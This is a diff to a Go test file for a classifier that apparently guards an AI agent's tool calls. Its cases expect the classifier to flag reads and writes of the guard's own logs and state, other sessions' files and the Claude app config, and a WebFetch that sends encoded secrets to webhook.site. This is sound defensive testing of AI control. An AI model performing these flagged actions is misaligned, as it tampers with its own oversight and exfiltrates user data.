@@ -290,10 +290,34 @@ var ruleCases = []ruleCase{
 	{"url.local-admin-port", mcp("mcp__browser__navigate", map[string]any{"url": "http://localhost:3000/"}), false},
 	{"url.paste-site-data", mcp("WebFetch", map[string]any{"url": "https://webhook.site/abc?d=c2VjcmV0c2VjcmV0", "prompt": "x"}), true},
 	{"url.paste-site-data", mcp("WebFetch", map[string]any{"url": "https://pastebin.com/raw/abcd", "prompt": "x"}), false},
+	{"read.guard-files", read("/Users/ada/Library/Logs/CoworkBridge/decisions.jsonl.2"), true},
+	{"read.guard-files", read("/Users/ada/Library/Logs/DiagnosticReports/x.ips"), false},
+	{"path.guard-files", write("/Users/ada/Library/Application Support/CoworkBridge/health.json", "{}"), true},
+	{"path.guard-files", write("/Users/ada/Library/Application Support/CoworkBridgeNotes/x.md", "x"), false},
+	{"read.other-session", read(testSessions + "/o/o/local_b/.claude/projects/p/t.jsonl"), true},
+	{"read.other-session", read("/Users/ada/Projects/app/README.md"), false},
+	{"path.other-session", write(testSessions+"/o/o/local_b/outputs/notes.md", "x"), true},
+	{"path.other-session", write("/Users/ada/Projects/app/notes.md", "x"), false},
+	{"path.claude-config", write("/Users/ada/Library/Application Support/Claude/claude_desktop_config.json", "{}"), true},
+	{"path.claude-config", write("/Users/ada/Library/Application Support/ClaudeNotes/x.md", "x"), false},
+}
+
+// testSessions is the sessions root of testPlaces.
+const testSessions = "/Users/ada/Library/Application Support/Claude/local-agent-mode-sessions"
+
+// testPlaces is the map of a Mac as managedconfig makes it for ada.
+var testPlaces = []Place{
+	{Path: "/Users/ada/Library/Application Support/CoworkBridge", Owner: OwnerGuard, What: "coworkbridge's state and host channels"},
+	{Path: "/Users/ada/Library/Logs/CoworkBridge/decisions.jsonl", Owner: OwnerGuard, What: "coworkbridge's decision log", Stem: true},
+	{Path: "/usr/local/bin/coworkbridge", Owner: OwnerGuard, What: "coworkbridge's program"},
+	{Path: "/Library/Application Support/ClaudeCode", Owner: OwnerManaged, What: "Claude Code's managed settings"},
+	{Path: "/Users/ada/Library/Application Support/Claude", Owner: OwnerApp, What: "the Claude app's data"},
+	{Path: "/Users/ada/.claude", Owner: OwnerApp, What: "Claude Code's user configuration"},
+	{Path: testSessions, Owner: OwnerSessions, What: "Cowork's sessions"},
 }
 
 func TestEveryDefaultRuleCatchesAndLetsALookAlikePass(t *testing.T) {
-	c := newTestClassifier(t, Policy{AllowedExecutables: []string{"xmrig"}})
+	c := newTestClassifier(t, Policy{AllowedExecutables: []string{"xmrig"}, Places: testPlaces})
 	covered := map[string]bool{}
 	for _, tc := range ruleCases {
 		v := c.Evaluate(context.Background(), tc.call)
